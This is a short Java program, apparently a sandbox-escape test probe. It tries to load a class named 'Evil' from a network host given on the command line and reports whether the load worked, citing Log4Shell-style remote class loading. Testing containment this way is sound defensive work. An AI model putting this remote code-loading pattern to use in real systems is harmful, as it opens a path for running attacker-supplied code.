package escape.network;

import java.net.URL;
import java.net.URLClassLoader;

/**
 * Remote class loading: a {@code URLClassLoader} over {@code http://HOST:PORT/} asked for class
 * {@code Evil}, so the JDK fetches {@code /Evil.class} over the network; Log4Shell's JNDI payloads
 * ended the same way, loading a class from an attacker's codebase URL.
 *
 * <p>Source: CVE-2021-44228 (Log4Shell), https://nvd.nist.gov/vuln/detail/CVE-2021-44228
 */
public final class RemoteClassLoading {

    private RemoteClassLoading() {
    }

    public static void main(String[] args) {
        try (URLClassLoader loader = new URLClassLoader(new URL[] {new URL("http://" + args[0] + "/")})) {
            Class<?> evil = loader.loadClass("Evil");
            System.out.println("net-url-class-loader: loaded " + evil + " from the network");
        } catch (Throwable t) {
            System.out.println("net-url-class-loader: " + t);
        }
    }
}
